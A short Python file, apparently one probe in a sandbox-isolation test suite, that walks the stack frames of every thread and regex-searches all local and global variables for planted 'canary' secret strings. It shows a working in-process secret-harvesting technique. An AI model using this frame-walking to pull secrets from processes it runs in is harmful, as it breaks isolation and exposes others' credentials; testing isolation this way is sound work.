# /// attack
# title = "Walks up the frames of every thread"
# ///
import re
import sys


def attack():
    wanted = re.compile("canary" + "-(?!smug)[a-z]+-[0-9a-f]{16}")
    found = []
    for frame in sys._current_frames().values():
        while frame is not None:
            found += [repr(v) for v in [*frame.f_locals.values(), *frame.f_globals.values()]]
            frame = frame.f_back
    return wanted.findall("".join(found)) or None
